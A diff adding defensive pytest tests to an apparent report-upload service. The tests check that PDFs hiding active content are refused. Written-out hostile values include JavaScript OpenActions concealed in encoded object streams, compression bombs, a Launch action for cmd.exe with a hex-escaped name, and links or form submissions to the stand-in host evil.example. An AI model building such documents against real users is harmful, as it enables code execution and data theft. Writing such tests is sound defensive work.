@@ -4,6 +4,7 @@ import hashlib
 import io
 import json
 import re
+import resource
 import socket
 import socketserver
 import struct
@@ -17,7 +18,9 @@ from rest_framework.test import APIClient
 from apps.evaluations.models import ReportFile
 from tests.core.contract import assert_error
 
+from . import hostile_pdfs
 from .helpers import object_stream, pdf, pdf_of_size, read_bytes
+from .helpers import upload as upload_file
 
 STORED_NAME = re.compile(r"^evaluations/[0-9a-f]{32}\.pdf$")
 SMALL_LIMIT = 100_000
@@ -352,3 +355,93 @@ def test_an_oversized_upload_is_refused_before_its_body_is_read(attested, media,
     assert json.loads(response.content)["error"]["code"] == "too_large"
     assert stream.taken == 0
     assert media.files() == []
+
+
+# Hostile PDFs that a scanner of the raw bytes let through ---------------------------------------
+
+def _js_action():
+    import pikepdf
+
+    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+
+
+PARSED_HOSTILE = {
+    # case: (builder, error code)
+    "a JavaScript OpenAction in an object stream encoded with /ASCIIHexDecode": (
+        hostile_pdfs.js_open_action_in_hex_object_stream, "pdf_active_content"),
+    "a JavaScript OpenAction in an object stream with two filters": (
+        hostile_pdfs.js_open_action_in_object_stream_with_two_filters, "pdf_active_content"),
+    "a JavaScript OpenAction in an object stream whose /Type /ObjStm is far from `stream`": (
+        hostile_pdfs.js_open_action_with_object_stream_type_far_from_stream, "pdf_active_content"),
+    "a file-attachment annotation whose stream omits /Type /EmbeddedFile": (
+        hostile_pdfs.file_attachment_without_embedded_file_type, "pdf_active_content"),
+    "a compression bomb (2 GiB of content in 6 KB)": (hostile_pdfs.compression_bomb, "pdf_too_complex"),
+    "a compression bomb in the object stream holding the OpenAction": (
+        hostile_pdfs.bomb_in_object_stream, "pdf_too_complex"),
+    "an XFA form": (hostile_pdfs.with_xfa_form, "pdf_active_content"),
+    "a link to file:": (lambda: hostile_pdfs.link_to(b"file:///C:/Users/Public/payload.exe"), "pdf_active_content"),
+    "a link to a network share": (lambda: hostile_pdfs.link_to(b"smb://evil.example/share"), "pdf_active_content"),
+    "a javascript: link": (lambda: hostile_pdfs.link_to(b" JavaScript:app.alert(1)"), "pdf_active_content"),
+    "a link without a scheme": (lambda: hostile_pdfs.link_to(b"//evil.example/x"), "pdf_active_content"),
+    "an action opening a remote PDF": (
+        lambda: hostile_pdfs.with_action(b"<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>"),
+        "pdf_active_content"),
+    "an action importing form data": (lambda: hostile_pdfs.with_action(b"<< /S /ImportData /F (data.fdf) >>"),
+                                      "pdf_active_content"),
+    "an action submitting the form": (
+        lambda: hostile_pdfs.with_action(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
+        "pdf_active_content"),
+    "a launch action with a hex-escaped name": (lambda: hostile_pdfs.with_action(b"<< /S /L#61unch /F (cmd.exe) >>"),
+                                                "pdf_active_content"),
+    "JavaScript in a document encrypted with an empty user password": (
+        lambda: hostile_pdfs.encrypted(user_password="", extra_catalog={"/OpenAction": _js_action()}),
+        "pdf_active_content"),
+    "JavaScript in a real writer's compressed object streams": (
+        lambda: hostile_pdfs.written_by_a_real_writer(**{"/OpenAction": _js_action()}), "pdf_active_content"),
+    "a document that needs a password": (lambda: hostile_pdfs.encrypted(user_password="secret"), "pdf_encrypted"),
+    "an LZW stream (no decoded-size cap exists for it)": (hostile_pdfs.lzw_compressed, "pdf_too_complex"),
+}
+
+
+@pytest.mark.parametrize("case", list(PARSED_HOSTILE))
+def test_a_pdf_hiding_active_content_from_a_byte_scanner_is_refused(attested, media, case):
+    builder, code = PARSED_HOSTILE[case]
+    data = builder()
+    assert len(data) <= SMALL_LIMIT, "the file itself must pass the size limit: the content is what is judged"
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    response = attested.upload(data, name="report.pdf")
+    error = assert_error(response, 415, code)
+    assert error["message"]
+    # Refused, not inflated: a bomb read whole would have taken gigabytes.
+    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    assert grown_mib < 512, f"the check grew the process by {grown_mib:.0f} MiB"
+    assert media.files() == [] and not ReportFile.objects.exists()
+
+
+@pytest.mark.parametrize("builder", [
+    hostile_pdfs.build,
+    hostile_pdfs.written_by_a_real_writer,
+    lambda: hostile_pdfs.link_to(b"https://www.ed.gov/laws-and-policy/individuals-disabilities"),
+    lambda: hostile_pdfs.link_to(b"mailto:evaluator@example.org"),
+    lambda: hostile_pdfs.with_action(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
+    lambda: hostile_pdfs.encrypted(user_password=""),  # permissions only: readable, so checkable
+], ids=["xref stream", "object streams", "https link", "mailto link", "go-to action", "permissions only"])
+def test_a_plain_report_in_any_modern_layout_is_accepted(attested, media, builder):
+    response = attested.upload(builder(), name="report.pdf")
+    assert response.status_code == 201, response.content[:400]
+
+
+def test_what_a_hostile_pdf_carried_is_named_to_the_evaluator_in_their_language(attested, media, api_as):
+    client = api_as("evaluator")
+    response = client.post(attested.url + "report/", {"file": upload_file(hostile_pdfs.file_attachment_without_embedded_file_type())},
+                           format="multipart", HTTP_ACCEPT_LANGUAGE="es")
+    message = assert_error(response, 415, "pdf_active_content")["message"]
+    assert "/FileAttachment" in message and "/EmbeddedFile" in message
+    assert "No se aceptan" in message
+
+
+def test_nobody_but_the_engaged_evaluator_may_upload_even_a_plain_report(attested, media):
+    for persona, status in [("parent.maya", 403), ("casemanager", 403), ("admin", 403), ("parent.leo", 404),
+                            ("teacher.leo", 404)]:
+        assert_error(attested.upload(hostile_pdfs.build(), persona=persona), status)
+    assert media.files() == [] and not ReportFile.objects.exists()
